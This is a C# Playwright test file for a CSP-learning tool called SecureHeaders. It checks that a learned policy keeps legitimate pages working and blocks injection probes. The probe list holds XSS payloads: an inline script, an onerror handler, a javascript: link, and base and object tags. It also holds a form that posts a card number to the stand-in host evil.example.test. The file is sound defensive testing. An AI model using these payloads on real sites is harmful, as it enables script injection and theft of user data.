extern alias cli;

using System.CommandLine;
using System.Text.Json;
using cli::SecureHeaders.Cli.Commands;
using Microsoft.Playwright;

namespace SecureHeaders.BrowserTests;

/// <summary>
/// Learning as a new user would run it, and as the issue checks it: real Chromium browses a site with legitimate third
/// parties under a strict Report-Only candidate and, in the same learning session, sends injection probes to its search
/// page. <c>secureheaders reports suggest --db FILE --policy default --json</c> then proposes a policy; enforced, every
/// legitimate page works without a violation and every probe is blocked.
/// </summary>
public sealed class LearningBrowserTests : IAsyncLifetime
{
    private readonly string _dir = Directory.CreateTempSubdirectory("secureheaders-learning").FullName;
    private readonly System.Security.Cryptography.X509Certificates.X509Certificate2 _certificate = ShowcaseFixture.CreateCertificate();
    private Microsoft.AspNetCore.Builder.WebApplication? _thirdParties;
    private Uri _cdn = null!;
    private Uri _embed = null!;
    private IPlaywright? _playwright;
    private IBrowser? _browser;

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    private string Database => Path.Combine(_dir, "reports.db");

    public async ValueTask InitializeAsync()
    {
        (_thirdParties, _cdn, _embed) = await LearningSite.StartThirdPartiesAsync(_certificate);
        if (ShowcaseFixture.FindChromium() is not { } chromium)
        {
            if (Environment.GetEnvironmentVariable("SECUREHEADERS_REQUIRE_SERVICES") == "1")
            {
                throw new InvalidOperationException("Chromium not found; SECUREHEADERS_REQUIRE_SERVICES=1 requires it.");
            }

            return;
        }

        _playwright = await Playwright.CreateAsync();
        _browser = await _playwright.Chromium.LaunchAsync(new BrowserTypeLaunchOptions { ExecutablePath = chromium, Headless = true, Args = ShowcaseFixture.s_chromiumFlags });
    }

    public async ValueTask DisposeAsync()
    {
        if (_browser is not null)
        {
            await _browser.DisposeAsync();
        }

        _playwright?.Dispose();
        if (_thirdParties is not null)
        {
            await _thirdParties.DisposeAsync();
        }

        _certificate.Dispose();
        Microsoft.Data.Sqlite.SqliteConnection.ClearAllPools();
        Directory.Delete(_dir, recursive: true);
    }

    /// <summary>A fresh browser context (its own cookies and storage) whose pages record every CSP violation.</summary>
    private async Task<IPage> NewPageAsync()
    {
        var context = await _browser!.NewContextAsync(new BrowserNewContextOptions { IgnoreHTTPSErrors = true });
        var page = await context.NewPageAsync();
        page.Dialog += (_, dialog) => _ = dialog.DismissAsync();
        await page.AddInitScriptAsync("""
            window.__violations = [];
            document.addEventListener('securitypolicyviolation', e => window.__violations.push({
                directive: e.effectiveDirective, blocked: e.blockedURI, disposition: e.disposition, sample: e.sample }));
            """);
        return page;
    }

    private static async Task<List<JsonElement>> ViolationsAsync(IPage page) =>
        [.. (await page.EvaluateAsync<JsonElement>("() => window.__violations")).EnumerateArray()];

    private static async Task<(int Exit, string Out, string Err)> CliAsync(params string[] args)
    {
        var root = new RootCommand();
        root.Subcommands.Add(ReportsCommands.Create());
        var output = new StringWriter();
        var error = new StringWriter();
        var exit = await root.Parse(args).InvokeAsync(new InvocationConfiguration { Output = output, Error = error }, Ct);
        return (exit, output.ToString(), error.ToString());
    }

    /// <summary>Every legitimate page, with what proves it works.</summary>
    private async Task BrowseAsync(IPage page, Uri site, bool expectNoViolation)
    {
        foreach (var path in LearningSite.Pages)
        {
            var response = await page.GotoAsync(new Uri(site, path).ToString(), new PageGotoOptions { WaitUntil = WaitUntilState.NetworkIdle });
            Assert.True(await page.EvaluateAsync<bool>("() => window.__cdnLoaded === true && window.__appReady === true"),
                path + ": CDN or nonce'd script did not run; violations: " + string.Join("; ", await ViolationsAsync(page)) + " headers: "
                + string.Join(" | ", (await response!.AllHeadersAsync()).Select(h => h.Key + ": " + h.Value)));
            Assert.True(await page.EvaluateAsync<bool>("() => [...document.styleSheets].some(s => s.href && s.href.endsWith('/fonts.css') && s.cssRules.length > 0)"),
                path + ": the CDN stylesheet did not apply");
            if (path == "/video")
            {
                var frame = page.Frames.Single(f => f.Url.StartsWith(_embed.ToString(), StringComparison.Ordinal));
                Assert.Equal("video", await frame.InnerTextAsync("#player"));
            }

            if (path == "/contact")
            {
                await page.ClickAsync("#contact button");
                await page.WaitForSelectorAsync("#thanks");
            }

            if (expectNoViolation)
            {
                var violations = await ViolationsAsync(page);
                Assert.True(violations.Count == 0, path + ": " + string.Join("; ", violations));
            }
        }
    }

    /// <summary>The probes of the issue, injected through the search page's reflected query.</summary>
    private static readonly (string Name, string Markup, string Action)[] s_probes =
    [
        ("inline script", "<script>window.__probeInline = 1; alert(document.domain)</script>", ""),
        ("event handler", "<img src=x onerror=\"window.__probeHandler = 1\">", ""),
        ("javascript: link", "<a id=probe href=\"javascript:window.__probeLink = 1\">x</a>", "#probe"),
        ("form to a foreign host", "<form id=steal method=post action=\"https://evil.example.test/collect\"><input name=card value=4111><button id=probe>go</button></form>", "#probe"),
        ("base", "<base href=\"https://evil.example.test/\">", ""),
        ("object", "<object data=\"https://evil.example.test/x.swf\" type=\"application/x-shockwave-flash\"></object>", ""),
    ];

    private static async Task<List<JsonElement>> ProbeAsync(IPage page, Uri site, (string Name, string Markup, string Action) probe)
    {
        await page.GotoAsync(new Uri(site, "/search?q=" + Uri.EscapeDataString(probe.Markup)).ToString(), new PageGotoOptions { WaitUntil = WaitUntilState.NetworkIdle });
        var before = await ViolationsAsync(page);
        if (probe.Action.Length > 0)
        {
            var navigated = page.WaitForRequestAsync(r => r.Url.StartsWith("https://evil.example.test", StringComparison.Ordinal), new PageWaitForRequestOptions { Timeout = 3000 });
            // A script-driven click: Playwright's own click waits for a navigation that a blocked probe never finishes.
            await page.EvaluateAsync("selector => setTimeout(() => document.querySelector(selector).click(), 0)", probe.Action);
            // The click's violation (or the navigation it starts) is what the probe is about: wait for either.
            await page.WaitForFunctionAsync($"() => window.__violations.length > {before.Count} || window.__probeLink === 1", null,
                new PageWaitForFunctionOptions { Timeout = 5000 }).ContinueWith(static _ => { }, TaskScheduler.Default);
            await navigated.ContinueWith(static _ => { }, TaskScheduler.Default);
        }

        return page.IsClosed ? before : await ViolationsAsync(page);
    }

    [Fact]
    public async Task The_learned_policy_lets_every_legitimate_page_work_and_blocks_every_probe()
    {
        if (_browser is null)
        {
            Assert.Skip("Chromium not found (set SECUREHEADERS_CHROMIUM or apt-get install -y chromium).");
        }

        // --- Learning: loose enforced policy, strict Report-Only candidate, one session for browsing and probes.
        await using (var learning = await LearningSite.StartAsync(_certificate, Database, _cdn, _embed, enforce: null))
        {
            var (startExit, _, startErr) = await CliAsync("reports", "session", "start", "--db", Database, "--name", "browser learning");
            Assert.True(startExit == 0, startErr);
            for (var visitor = 0; visitor < 2; visitor++)
            {
                await BrowseAsync(await NewPageAsync(), learning.Address, expectNoViolation: false);
            }

            var attacker = await NewPageAsync();
            foreach (var probe in s_probes)
            {
                await ProbeAsync(attacker, learning.Address, probe);
            }

            // Wait until Chromium's reports are in the store: the candidate's violations of every probe kind.
            var deadline = DateTime.UtcNow.AddSeconds(45);
            JsonElement learned;
            while (true)
            {
                var (exit, json, err) = await CliAsync("reports", "suggest", "--db", Database, "--policy", "default", "--json");
                Assert.True(exit == 0, err);
                learned = JsonDocument.Parse(json).RootElement.Clone();
                var rejected = learned.GetProperty("rejected").EnumerateArray().Select(r => r.GetProperty("directive").GetString()).ToHashSet();
                if ((rejected.IsSupersetOf(["form-action", "object-src", "base-uri", "script-src"]) && learned.GetProperty("added").GetArrayLength() >= 4)
                    || DateTime.UtcNow > deadline)
                {
                    break;
                }

                await Task.Delay(500, Ct);
            }

            var (endExit, _, endErr) = await CliAsync("reports", "session", "end", "--db", Database);
            Assert.True(endExit == 0, endErr);
            TestContext.Current.TestOutputHelper?.WriteLine("learned: " + learned.GetRawText());

            var csp = learned.GetProperty("csp").GetString()!;
            Assert.DoesNotContain("'nonce-", csp, StringComparison.Ordinal);
            Assert.Contains("'nonce'", csp, StringComparison.Ordinal);
            Assert.DoesNotContain("evil.example.test", csp, StringComparison.Ordinal);
            Assert.DoesNotContain("unsafe", csp, StringComparison.Ordinal);
            var added = learned.GetProperty("added").EnumerateArray().Select(a => a.GetProperty("directive").GetString() + " " + a.GetProperty("source").GetString()).ToList();
            var cdn = _cdn.GetLeftPart(UriPartial.Authority);
            Assert.Contains("script-src " + cdn, added);
            Assert.Contains("style-src " + cdn, added);
            Assert.Contains("font-src " + cdn, added);
            Assert.Contains("frame-src " + _embed.GetLeftPart(UriPartial.Authority), added);
            Assert.All(learned.GetProperty("rejected").EnumerateArray(), r => Assert.True(r.GetProperty("incident").GetBoolean(), r.GetRawText()));

            // --- Enforcing the suggestion, on a fresh store.
            Microsoft.Data.Sqlite.SqliteConnection.ClearAllPools();
            await learning.DisposeAsync();
            await using var enforced = await LearningSite.StartAsync(_certificate, Path.Combine(_dir, "enforced.db"), _cdn, _embed, enforce: csp);
            for (var visitor = 0; visitor < 2; visitor++)
            {
                await BrowseAsync(await NewPageAsync(), enforced.Address, expectNoViolation: true);
            }

            var probePage = await NewPageAsync();
            var blocked = new List<string>();
            foreach (var probe in s_probes)
            {
                var violations = await ProbeAsync(probePage, enforced.Address, probe);
                Assert.False(await probePage.EvaluateAsync<bool>("() => window.__probeInline === 1 || window.__probeHandler === 1 || window.__probeLink === 1"), probe.Name + " ran");
                Assert.StartsWith(enforced.Address.ToString(), probePage.Url, StringComparison.Ordinal);
                var enforcedViolations = violations.Where(v => v.GetProperty("disposition").GetString() == "enforce").ToList();
                Assert.True(enforcedViolations.Count > 0, probe.Name + " was not blocked");
                blocked.Add(probe.Name + ": " + string.Join(", ", enforcedViolations.Select(v => v.GetProperty("directive").GetString()).Distinct()));
            }

            TestContext.Current.TestOutputHelper?.WriteLine("blocked: " + string.Join(" | ", blocked));
        }
    }
}
